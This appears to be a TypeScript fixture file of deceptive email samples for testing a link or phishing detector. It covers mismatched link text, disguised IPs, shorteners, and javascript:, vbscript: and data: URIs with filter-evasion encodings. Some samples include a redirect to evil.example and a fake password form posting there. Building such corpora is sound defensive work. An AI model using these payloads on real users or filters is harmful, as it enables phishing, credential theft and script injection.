import { type CorpusDraft, paras } from './types';

const BODY_START = 'Hi Dana,';
const BODY_END = 'Let me know what you think.';

/** An ordinary-looking short HTML email around one link: only the link is wrong. */
const d = (category: string, id: string, link: string, extra: Partial<CorpusDraft> = {}): CorpusDraft => ({
  id,
  label: 'deceptive',
  category,
  subject: 'The case study for Acme',
  html: paras(BODY_START, `I put together a short case study for your team: ${link}`, BODY_END, 'Sam'),
  ...extra,
});

/** Links that hide where they go, or that run code instead of opening a page. */
export const DECEPTIVE_LINKS: CorpusDraft[] = [
  // --- the text names one site, the link opens another ---------------------------------------------
  d(
    'link text names another domain',
    'lt-paypal',
    '<a href="https://paypal-billing.example.net/login">paypal.com</a>',
  ),
  d(
    'link text names another domain',
    'lt-docusign-url',
    '<a href="https://docusign.secure-envelope.example/view">https://www.docusign.com/documents/acme-msa</a>',
  ),
  d(
    'link text names another domain',
    'lt-github-io',
    '<a href="https://attacker.github.io/case-study">acme.github.io/case-study</a>',
  ),
  d(
    'link text names another domain',
    'lt-suffix-append',
    '<a href="https://acme.com.files-share.example/cs.pdf">acme.com/case-study.pdf</a>',
  ),
  d(
    'link text names another domain',
    'lt-herokuapp',
    '<a href="https://acme-login.herokuapp.com">acme.herokuapp.com</a>',
  ),
  d(
    'link text names another domain',
    'lt-co-uk',
    '<a href="https://acme.co/portal">www.acme.co.uk/portal</a>',
  ),
  d(
    'link text names another domain',
    'lt-microsoft-caps',
    '<a href="https://m1crosoft-support.example">Microsoft.COM</a>',
  ),
  d(
    'link text names another domain',
    'lt-subdomain-shown',
    '<a href="https://acme-sso.example/auth">https://login.acme.com</a>',
  ),
  d(
    'link text names another domain',
    'lt-nested-markup',
    '<a href="https://dropbox-share.example.org/s/acme"><span style="color:#0061ff"><b>dropbox.com</b>/s/acme-case-study</span></a>',
  ),

  // --- a bare IP address instead of a name ---------------------------------------------------------
  d('IP-literal link', 'ip-v4', '<a href="http://203.0.113.45/case-study.pdf">case study</a>'),
  d('IP-literal link', 'ip-v6', '<a href="http://[2001:db8::17]/cs">case study</a>'),
  d('IP-literal link', 'ip-hex', '<a href="http://0xCB.0x00.0x71.0x2D/cs">case study</a>'),
  d('IP-literal link', 'ip-decimal', '<a href="http://3405803821/cs">case study</a>'),
  d('IP-literal link', 'ip-text', '', {
    html: '',
    text: 'Hi Dana,\n\nThe case study: http://198.51.100.7:8080/acme/cs.pdf\n\nSam',
  }),

  // --- a shortener in front of the real address ----------------------------------------------------
  d('shortener link', 'sh-bitly', '<a href="https://bit.ly/3Xk9aQ">case study</a>'),
  d('shortener link', 'sh-tinyurl-text', '', {
    html: '',
    text: 'Hi Dana,\n\nCase study here: https://tinyurl.com/acme-cs\n\nSam',
  }),
  d('shortener link', 'sh-bare-tco', '', { html: '', text: 'Hi Dana,\n\nThe deck: t.co/9fKq2\n\nSam' }),
  d('shortener link', 'sh-upper-www', '<a href="HTTPS://WWW.BIT.LY/3Xk9aQ">case study</a>'),
  d(
    'shortener link',
    'sh-rebrandly',
    '<a href="https://rebrand.ly/acme-cs">https://fairsend.example/acme</a>',
  ),
  d('shortener link', 'sh-isgd', '<a href="https://is.gd/Xa91Qp">case study</a>'),

  // --- links that run code or carry a document -----------------------------------------------------
  d('script or data link', 'js-plain', '<a href="javascript:alert(document.cookie)">case study</a>'),
  d('script or data link', 'js-entity-tab', '<a href="java&#9;script:alert(1)">case study</a>'),
  d('script or data link', 'js-literal-tab', '<a href="java\tscript:alert(1)">case study</a>'),
  d('script or data link', 'js-newline', '<a href="jav\nascript:alert(1)">case study</a>'),
  d(
    'script or data link',
    'js-leading-controls',
    '<a href="\u0001\u0010 javascript:alert(1)">case study</a>',
  ),
  d(
    'script or data link',
    'js-entity-letters',
    '<a href="&#106;&#97;vascript&colon;alert(1)">case study</a>',
  ),
  d('script or data link', 'js-mixed-case', '<a href="JaVaScRiPt:alert(1)">case study</a>'),
  d(
    'script or data link',
    'js-behind-data-href',
    '<a data-href="https://fairsend.example/cs" href="javascript:alert(1)">case study</a>',
  ),
  d(
    'script or data link',
    'js-gt-in-attribute',
    '<a title="case > study" href="javascript:alert(1)">case study</a>',
  ),
  d(
    'script or data link',
    'data-html',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">case study</a>',
  ),
  d('script or data link', 'vbscript', '<a href="vbscript:msgbox(1)">case study</a>'),
  d(
    'script or data link',
    'data-svg-base64',
    '<a href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">the chart</a>',
  ),
  d(
    'script or data link',
    'data-svg-percent',
    '<a href="data:image/svg+xml,%3Csvg%20xmlns%3D%27http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%27%20onload%3D%27alert(1)%27%2F%3E">the chart</a>',
  ),
  d(
    'script or data link',
    'data-svg-entities',
    '<a href="data:image/svg+xml;utf8,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;a href=&quot;https://evil.example&quot;&gt;&lt;text y=&quot;20&quot;&gt;Open&lt;/text&gt;&lt;/a&gt;&lt;/svg&gt;">the chart</a>',
  ),
  d(
    'script or data link',
    'data-html-plain',
    '<a href="data:text/html,%3Cscript%3Elocation%3D%27https%3A%2F%2Fevil.example%2F%27%3C%2Fscript%3E">case study</a>',
  ),
  d(
    'script or data link',
    'data-html-login-form',
    '<a href="data:text/html;charset=utf-8,&lt;h2&gt;Sign in to view the document&lt;/h2&gt;&lt;form action=&quot;https://evil.example/c&quot;&gt;&lt;input name=p type=password&gt;&lt;/form&gt;">case study</a>',
  ),
  d(
    'script or data link',
    'data-upper-entity',
    '<a href=" &#68;ATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">case study</a>',
  ),

  // --- links a browser opens that are not a plain <a href> -----------------------------------------
  d(
    'image-map, SVG or <base> link',
    'area-javascript',
    '<img src="https://cdn.fairsend.example/acme-cs.png" width="560" usemap="#cs" alt="Case study"><map name="cs"><area shape="rect" coords="0,0,560,300" href="javascript:alert(document.cookie)" alt="case study"></map>',
  ),
  d(
    'image-map, SVG or <base> link',
    'area-mismatch',
    '<img src="https://cdn.fairsend.example/sign.png" width="300" usemap="#m" alt="Review and sign"><map name="m"><area shape="rect" coords="0,0,300,60" href="https://docusign-envelope.example/view" alt="docusign.com"></map>',
  ),
  d(
    'image-map, SVG or <base> link',
    'area-ip',
    '<img src="https://cdn.fairsend.example/pdf.png" width="120" usemap="#p" alt="PDF"><map name="p"><area shape="default" href="http://198.51.100.23/acme-cs.pdf" alt="case study"></map>',
  ),
  d(
    'image-map, SVG or <base> link',
    'svg-xlink-javascript',
    '<svg width="180" height="40" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="180" height="40" rx="6" fill="#0b5fff"/><text x="20" y="26" fill="#fff">View the case study</text></a></svg>',
  ),
  d(
    'image-map, SVG or <base> link',
    'svg-xlink-mismatch',
    '<svg width="260" height="30"><a xlink:href="https://acme-portal.example/login"><text x="0" y="20">acme.com/case-study</text></a></svg>',
  ),
  d(
    'image-map, SVG or <base> link',
    'svg-href-shortener',
    '<svg width="200" height="30"><a href="https://bit.ly/3Xk9aQ"><text x="0" y="20">case study</text></a></svg>',
  ),
  d('image-map, SVG or <base> link', 'base-path-mismatch', '', {
    html: `<html><head><base href="https://acme-login.example/"></head><body>${paras(BODY_START, 'Your team can see the case study here: <a href="/cs">acme.com/case-study</a>', BODY_END, 'Sam')}</body></html>`,
  }),
  d('image-map, SVG or <base> link', 'base-ip', '', {
    html: `<base href="http://203.0.113.45/files/">${paras(BODY_START, 'I put together a short case study for your team: <a href="acme-cs.pdf">case study</a>', BODY_END, 'Sam')}`,
  }),
  d('image-map, SVG or <base> link', 'base-shortener', '', {
    html: `<base href="https://tinyurl.com/">${paras(BODY_START, 'I put together a short case study for your team: <a href="acme-cs">case study</a>', BODY_END, 'Sam')}`,
  }),
  d('image-map, SVG or <base> link', 'base-late-scheme-relative', '', {
    html: `${paras(BODY_START, 'I put together a short case study for your team: <a href="cs">https://www.acme.com/cs</a>', BODY_END, 'Sam')}<div><base href="//acme-files.example/"></div>`,
  }),
];
